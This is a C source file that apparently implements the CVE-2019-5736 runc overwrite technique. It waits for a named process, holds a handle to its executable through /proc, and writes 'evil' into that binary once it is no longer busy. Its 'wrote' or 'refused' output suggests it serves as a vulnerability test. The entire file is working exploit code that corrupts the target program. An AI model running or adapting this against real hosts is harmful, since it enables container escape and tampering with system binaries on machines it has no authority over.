/* overwrite NAME: waits for a process of that name, keeps hold of its program, and writes to it when it has ended
 * (CVE-2019-5736). Makes /tmp/taken in between. Says "wrote" or "refused ERRNO". */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int has_name(int pid, const char *wanted) {
  char path[40], name[32] = "";
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  FILE *file = fopen(path, "r");
  if (file == NULL) return 0;
  if (fgets(name, sizeof name, file) != NULL) name[strcspn(name, "\n")] = '\0';
  fclose(file);
  return strcmp(name, wanted) == 0;
}

static int take(const char *wanted) {
  for (;; usleep(1000)) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
      char path[300];
      int pid = atoi(entry->d_name);
      if (pid <= 1 || pid == getpid() || !has_name(pid, wanted)) continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      int fd = open(path, O_PATH);
      if (fd >= 0) return fd;
    }
    if (proc != NULL) closedir(proc);
  }
}

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  int program = take(argv[1]);
  close(open("/tmp/taken", O_WRONLY | O_CREAT, 0600));
  char path[40];
  snprintf(path, sizeof path, "/proc/self/fd/%d", program);
  int fd = -1;
  /* As long as it is executed. */
  while ((fd = open(path, O_WRONLY)) < 0 && errno == ETXTBSY) usleep(10000);
  if (fd < 0) {
    printf("refused %s\n", strerrorname_np(errno));
    return 0;
  }
  printf("%s\n", write(fd, "evil", 4) == 4 ? "wrote" : "opened");
  return 0;
}
